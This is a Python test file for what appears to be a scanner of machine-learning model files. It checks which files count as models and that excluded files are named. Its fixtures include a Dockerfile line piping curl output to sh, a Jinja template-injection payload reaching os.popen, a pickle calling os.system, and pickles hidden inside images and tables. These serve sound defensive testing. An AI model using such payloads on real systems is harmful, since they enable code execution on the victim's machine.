"""Only a model's format makes a model, and each file that is left out is named."""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
from pathlib import Path

import pytest

from mlsec.artifacts.bytes.window import Window
from mlsec.artifacts.facts import TOO_MANY_NAMES, Format, Inspection, InspectionGap
from mlsec.artifacts.inspect.inspect import inspect
from mlsec.collect.folders.entry import Entry
from mlsec.core.enums import GapReason
from mlsec.model_files.evidence import Inspected
from mlsec.model_files.models import may_be_model
from tests.artifacts.builders.protobufs import message, number, text
from tests.model_files.test_source_beside import AUTO, CODE, SCRIPT, WEIGHTS, Shell, judged, read

PNG = (
    b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + bytes(13 + 4)
    + struct.pack(">I", 0) + b"IEND" + b"\xae\x42\x60\x82"
)  # fmt: skip
POISON = "{{ cycler.__init__.__globals__.os.popen('echo inert') }}"


def packed(**members: bytes) -> bytes:
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w") as archive:
        for name, data in members.items():
            archive.writestr(name.replace("__", "."), data)
    return body.getvalue()


DOCX = packed(word__xml=b"<?xml version='1.0'?><document/>", Types__xml=b"<Types/>")
NO_MODELS = {
    "paper.pdf": b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
    "letter.docx": DOCX,
    "tool.jar": packed(Main__class=b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(60)),
    "logo.png": PNG,
    "words.ttf": b"\0\1\0\0\0\x0f\0\x80\0\3\0\x70" + bytes(range(1, 250)),
    "abalone.csv": b"M,0.455,0.365,0.095,0.514\nF,0.53,0.42,0.135,0.677\n" * 9,
    "notes.txt": b"N. B. this is a text.\n",
    "Dockerfile": b"FROM python:3\nRUN curl http://x.example.invalid | sh\n",
    "descriptor.pb": message(1, text(1, "a.proto"), text(2, "own.package")),
    "config.json": b'{"port": 8080}',
    "run.py": CODE,
}


@pytest.mark.parametrize(("detail", "may_be"), [(TOO_MANY_NAMES, False), ("too large", True)])
def test_program_text_that_leads_too_far_hides_no_model(*, detail: str, may_be: bool) -> None:
    gap = InspectionGap(reason=GapReason.OVER_LIMIT, place="pydantic/networks.py", detail=detail)
    package = Inspection(size_bytes=9, formats=(Format.ZIP,), gaps=(gap,))
    entry = Entry(id="function.zip", path="function.zip", size_bytes=9)
    assert may_be_model(Inspected(entry=entry, inspection=package)) is may_be


@pytest.mark.parametrize("name", NO_MODELS)
def test_a_file_of_another_format_makes_no_model_and_is_named(name: str, tmp_path: Path) -> None:
    found = read(tmp_path, {name: NO_MODELS[name], "words": b"words\n"})
    assert found.resources == ()
    (row,) = [row for row in found.coverage.rows if row.type == "files.artifact"]
    assert {one for part in row.named for one in part.names} == {name, "words"}


def test_files_of_other_formats_together_make_no_model(tmp_path: Path) -> None:
    found = read(tmp_path, {**NO_MODELS, "setup.sh": SCRIPT})
    assert found.resources == ()


def test_any_config_json_at_the_root_does_not_make_the_repository_one_model(
    tmp_path: Path,
) -> None:
    files = {"config.json": b'{"port": 1}', "tool/run.py": CODE, "m/model.pkl": pickle.dumps([1])}
    found = read(tmp_path, files)
    assert judged(found) == {"m/model.pkl"}


def test_an_archive_is_a_model_where_one_of_its_members_is(tmp_path: Path) -> None:
    files = {
        "held.zip": packed(a__pkl=pickle.dumps({"w": [1.0]})),
        "words.zip": packed(a__txt=b"words\n"),
    }
    assert judged(read(tmp_path, files)) == {"held.zip"}


def test_a_model_hidden_in_a_picture_is_judged(tmp_path: Path) -> None:
    files = {"logo.png": PNG + pickle.dumps(Shell()), "other.png": PNG}
    assert judged(read(tmp_path, files)) == {"logo.png"}


def test_a_name_that_only_models_have_is_told_where_no_reader_knows_the_content(
    tmp_path: Path,
) -> None:
    noise = bytes(range(1, 256)) * 9
    files = {"net.mnn": noise, "font.woff9": noise, "other/data.dat": noise}
    found = read(tmp_path, {**files, "readme.txt": b"words\n"})
    assert judged(found) == {"net.mnn", "font.woff9"}
    (row,) = [row for row in found.coverage.rows if row.type == "files.artifact"]
    assert {name for part in row.named for name in part.names} == {"other/data.dat", "readme.txt"}


LOADED = {
    "custom generation": ({"custom_generate/generate.py": CODE}, "custom_generate/generate.py"),
    "code of a configuration": ({"config.json": AUTO, "modeling_x.py": CODE}, "modeling_x.py"),
    "what pip runs": ({"model.safetensors": WEIGHTS, "setup.py": CODE}, "setup.py"),
    "a tokenizer": (
        {"tokenizer_config.json": json.dumps({"chat_template": POISON}).encode()},
        "tokenizer_config.json",
    ),
    "a template by its place": ({"chat_template.jinja": POISON.encode()}, "chat_template.jinja"),
    "one of several templates": (
        {"additional_chat_templates/tool.jinja": POISON.encode()},
        "additional_chat_templates/tool.jinja",
    ),
    "modules of sentence-transformers": (
        {
            "modules.json": json.dumps(
                [{"idx": 0, "name": "0", "path": "", "type": "own_st.Transformer"}]
            ).encode(),
            "own_st.py": CODE,
        },
        "own_st.py",
    ),
    "a pipeline of diffusers": (
        {
            "model_index.json": json.dumps(
                {"_class_name": ["pipeline", "Own"], "_diffusers_version": "0.30.0"}
            ).encode(),
            "unet/own.py": CODE,
        },
        "unet/own.py",
    ),
    "code of MLflow": (
        {
            "MLmodel": b"flavors:\n  python_function:\n    loader_module: own\n    code: code\n",
            "code/own.py": CODE,
        },
        "code/own.py",
    ),
    "a package of spaCy": (
        {
            "meta.json": json.dumps({"lang": "en", "spacy_version": ">=3"}).encode(),
            "__init__.py": CODE,
        },
        "__init__.py",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", LOADED)
def test_what_a_loader_reads_is_judged_with_no_weights_beside_it(name: str, tmp_path: Path) -> None:
    files, expected = LOADED[name]
    assert expected in judged(read(tmp_path, files))


def test_every_listed_file_is_judged_or_named_with_the_reason(tmp_path: Path) -> None:
    files = {**NO_MODELS, "m/model.safetensors": WEIGHTS, "m/train.py": CODE, "m/empty": b""}
    found = read(tmp_path, files)
    (row,) = [row for row in found.coverage.rows if row.type == "files.artifact"]
    named = [name for part in row.named for name in part.names]
    assert sorted([*named, *judged(found) - {""}]) == sorted(files)
    assert all(part.because for part in row.named)
    assert len(named) == row.excluded


TEXTS = (b"N" * 9000, b"(" * 9000, b"N. B. words\n", b"M,0.455,1\n" * 99, b"]" * 400 + b"\n")


@pytest.mark.parametrize("data", TEXTS)
def test_letters_that_are_opcodes_make_no_pickle_without_a_second_mark(data: bytes) -> None:
    assert Format.PICKLE not in inspect(Window.of(data, "words")).formats


@pytest.mark.parametrize("count", [9, 9000, 2_000_000])
@pytest.mark.parametrize("filler", [b"(", b"N", b"]0"])
def test_an_import_behind_what_could_be_text_is_a_pickle(filler: bytes, count: int) -> None:
    data = filler * count + b"cos\nsystem\n(S'id'\ntR."
    assert Format.PICKLE in inspect(Window.of(data, "weights")).formats


MESSAGES = {
    "texts in pairs": message(1, text(1, "key"), text(2, "Value")),
    "a number and a message": number(1, 3) + message(7, number(1, 4), number(2, 9)),
    "a number and a text": number(5, 3) + text(7, "not a graph of anything"),
}


@pytest.mark.parametrize("name", MESSAGES)
@pytest.mark.parametrize("ending", ["bin", "pb"])
def test_a_message_of_another_program_is_no_graph(name: str, ending: str) -> None:
    formats = inspect(Window.of(MESSAGES[name], f"x.{ending}")).formats
    assert not {Format.ONNX, Format.GRAPH_DEF} & set(formats)


def test_words_of_test_vectors_are_no_program() -> None:
    words = bytes.fromhex("feedfacedeadbeeffeedfacedeadbeefabaddad2")
    assert inspect(Window.of(words + bytes(40))).formats != (Format.EXECUTABLE,)


TABLES = {
    "rows.parquet": b"PAR1" + bytes(range(1, 90)),
    "rows.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(90),
    ".DS_Store": b"\0\0\0\1Bud1\0\0\x10\0" + bytes(90),
}


@pytest.mark.parametrize("name", TABLES)
def test_a_table_beside_a_model_is_left_out_and_said(name: str, tmp_path: Path) -> None:
    found = read(tmp_path, {"model.safetensors": WEIGHTS, name: TABLES[name]})
    assert judged(found) == {"model.safetensors"}
    (row,) = [row for row in found.coverage.rows if row.type == "files.artifact"]
    assert "in which no model lies (1)" in row.excluded_because


@pytest.mark.parametrize("name", TABLES)
def test_a_table_with_a_pickle_in_it_is_judged(name: str, tmp_path: Path) -> None:
    body = TABLES[name] + pickle.dumps(Shell())
    assert name in judged(read(tmp_path, {"model.safetensors": WEIGHTS, name: body}))


@pytest.mark.parametrize("name", ["rows.rar", "model.bin"])
def test_what_may_hold_a_model_is_judged_beside_one(name: str, tmp_path: Path) -> None:
    body = b"Rar!\x1a\7\0" + bytes(90) if name.endswith("rar") else bytes(range(1, 90))
    assert name in judged(read(tmp_path, {"model.safetensors": WEIGHTS, name: body}))
